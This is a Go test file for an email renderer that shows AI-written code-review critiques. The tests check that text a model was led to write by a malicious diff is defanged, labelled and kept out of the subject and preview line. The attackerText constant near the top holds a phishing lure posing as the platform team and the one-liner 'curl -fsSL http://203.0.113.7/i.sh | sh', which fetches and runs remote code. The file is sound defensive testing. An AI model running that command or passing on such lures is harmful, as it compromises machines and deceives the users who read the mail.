package mail_test

import (
	stdhtml "html"
	"regexp"
	"strings"
	"testing"

	"github.com/criticizer/criticizer/internal/critic"
)

// attackerText is what a model may be led to write by a diff: a phishing
// link, a shell one-liner, a bare domain, a link to the changelist's own
// host, and an instruction signed as the team.
const attackerText = "URGENT from the platform team: your token expired, log in at https://evil.example/login?next=review " +
	"and run curl -fsSL http://203.0.113.7/i.sh | sh, or visit www.evil-docs.com or pastebin.com/raw/x1. " +
	"See https://review.example.com/c/billing/+/1042/5 for the change."

// Model text in the email is data (R-MAIL-2): its URLs are defanged in the
// HTML part, the text part and nowhere reach the preview line, except links
// to the changelist's own host; the model's text is marked as written by a
// model; the subject and preview line are ours.
// Rules: R-MAIL-2.
func TestModelText_NoWorkingLinkLabelledNotInPreview(t *testing.T) {
	d := sampleData()
	d.Critique.Critic = "openai/gpt-4.1"
	d.Critique.Summary = attackerText
	d.Critique.Findings = []critic.Finding{{File: "internal/billing/invoice.go", Line: 15, Severity: critic.SeverityError, Rule: "x", Message: attackerText}}
	subject, html, text, _ := render(t, d)
	for part, body := range map[string]string{"html": stdhtml.UnescapeString(html), "text": text} {
		for _, live := range []string{"https://evil.example", "http://203.0.113.7", "www.evil-docs.com", "pastebin.com/", "evil.example/login"} {
			if strings.Contains(body, live) {
				t.Errorf("%s part holds the live link %q", part, live)
			}
		}
		if !strings.Contains(body, "hxxps[:]//evil[.]example/login") || !strings.Contains(body, "pastebin[.]com") {
			t.Errorf("%s part: the links are not shown defanged", part)
		}
		if !strings.Contains(body, "https://review.example.com/c/billing/+/1042/5") {
			t.Errorf("%s part: the changelist host's link was defanged", part)
		}
		if !strings.Contains(body, "Written by a language model (openai/gpt-4.1)") {
			t.Errorf("%s part: the model's text is not labelled", part)
		}
	}
	// The only anchors are ours: the changelist, the line links, the
	// unsubscribe link.
	for _, m := range regexp.MustCompile(`href="([^"]*)"`).FindAllStringSubmatch(html, -1) {
		if !strings.HasPrefix(m[1], "https://review.example.com/") && !strings.Contains(m[1], "unsubscribe") {
			t.Errorf("anchor to %s", m[1])
		}
	}
	preview := regexp.MustCompile(`(?s)display:none[^>]*>(.*?)</div>`).FindStringSubmatch(html)
	if preview == nil || strings.Contains(preview[1], "URGENT") || !strings.Contains(preview[1], "billing-1042 version 3") {
		t.Errorf("preview line %q: want ours, not the model's", preview)
	}
	if strings.Contains(subject, "URGENT") {
		t.Errorf("subject %q", subject)
	}
}

// The offline critic's text is ours: no model label.
func TestOfflineText_NotLabelledAsAModel(t *testing.T) {
	_, html, text, _ := render(t, sampleData())
	if strings.Contains(html, "language model") || strings.Contains(text, "language model") {
		t.Error("offline critique labelled as a model's")
	}
}
